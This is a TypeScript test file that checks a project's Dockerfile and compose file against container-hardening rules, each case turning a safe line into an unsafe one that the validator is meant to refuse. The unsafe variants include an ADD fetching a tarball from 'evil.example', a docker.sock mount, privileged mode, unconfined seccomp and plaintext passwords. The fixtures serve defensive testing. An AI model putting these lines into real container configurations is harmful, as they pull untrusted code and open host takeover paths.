import { readFileSync } from 'node:fs'
import { expect, test } from 'vitest'
import { readYaml } from '#tests/support/plain-yaml.ts'
import { composeProblems, dockerfileProblems } from './delivery.ts'

const dockerfile = readFileSync('Dockerfile', 'utf8')
const compose = readFileSync('compose.yaml', 'utf8')
const problemsIn = (text: string): readonly string[] => composeProblems(readYaml(text))

test('the image is pinned, runs as nobody special, without a shell, and has no secret in it', () => {
  expect(dockerfileProblems(dockerfile)).toEqual([])
})

test('every service has a read-only root, no capability it does not need, and its secrets as files', () => {
  expect(problemsIn(compose)).toEqual([])
})

test.each([
  ['USER 1000:1000', 'USER root', 'runs as "root"'],
  ['USER 1000:1000\n', '', 'runs as ""'],
  ['USER 1000:1000', 'USER 0', 'runs as "0"'],
  ['node:24.21.0-bookworm-slim AS build', 'node:latest AS build', 'not pinned: node:latest'],
  ['node:24.21.0-bookworm-slim\nENV', 'node\nENV', 'not pinned: node'],
  ['node:24.21.0-bookworm-slim\nENV', 'node:24\nENV', 'not pinned: node:24'],
  ['COPY . .', 'ADD https://evil.example/x.tar /app', 'ADD instead of COPY'],
  ['RUN ["npm", "run", "build"]', 'RUN npm run build', 'RUN through a shell'],
  ['"ci", "--ignore-scripts"', '"ci"', 'install scripts run'],
  ['ENV NODE_ENV=production', 'ENV NODE_ENV=production DATABASE_URL=postgres://a:b@c/d', 'secret in the image: DATABASE_URL'],
  ['VOLUME ["/data"]', '', 'expected one VOLUME'],
  ['HEALTHCHECK', '# HEALTHCHECK', 'no HEALTHCHECK'],
])('a Dockerfile with %s turned into %s is refused', (good, bad, problem) => {
  expect(dockerfile).toContain(good)
  expect(dockerfileProblems(dockerfile.replace(good, bad)).join('; ')).toContain(problem)
})

test.each([
  ['postgres:17.6-bookworm', 'postgres:latest', 'database: image not pinned'],
  ['    read_only: true\n    tmpfs', '    tmpfs', 'homeport: root is writable'],
  ['      - NET_BIND_SERVICE', '      - SYS_ADMIN', 'proxy: gains SYS_ADMIN'],
  ['      - no-new-privileges:true', '      - seccomp:unconfined', 'may gain privileges'],
  ['      POSTGRES_PASSWORD_FILE: /run/secrets/database-password', '      POSTGRES_PASSWORD: hunter2', 'secret in the environment: POSTGRES_PASSWORD'],
  ['      - data:/data', '      - /var/run/docker.sock:/var/run/docker.sock', 'mounts /var/run/docker.sock'],
  ['./deploy/config.json:/etc/homeport/config.json:ro', './deploy/config.json:/etc/homeport/config.json', 'writes beside the compose file'],
  ['    user: postgres', '    ports:\n      - "5432:5432"', 'database: reached from outside'],
  ['    file: ./secrets/master-key', '    environment: MASTER_KEY', 'secret master-key is no file'],
  ['    user: postgres', '    privileged: true', 'sets privileged'],
])('a compose file with %s turned into %s is refused', (good, bad, problem) => {
  expect(compose).toContain(good)
  expect(problemsIn(compose.replace(good, bad)).join('; ')).toContain(problem)
})

test('the configuration beside it fits: the proxy’s network is the trusted one', () => {
  // A file of our own.
  const config = JSON.parse(readFileSync('deploy/config.json', 'utf8')) as { readonly trustedProxies: readonly string[] }
  for (const network of config.trustedProxies) expect(compose).toContain(`subnet: ${network}`)
})

test('what the YAML reader does not know is an error, not a gap', () => {
  for (const bad of ['a: |\n  text', 'a: &x b', 'a: b\n  c: d', 'a: b\na: c', '- a', 'a:\n  b: c\n d: e', 'a b']) expect(() => readYaml(bad)).toThrow(/line/)
  expect(readYaml('a:\n  - b: c\n  - "d:e"\nf: ["g"]\nh:\n')).toEqual({ a: [{ b: 'c' }, 'd:e'], f: ['g'], h: '' })
})
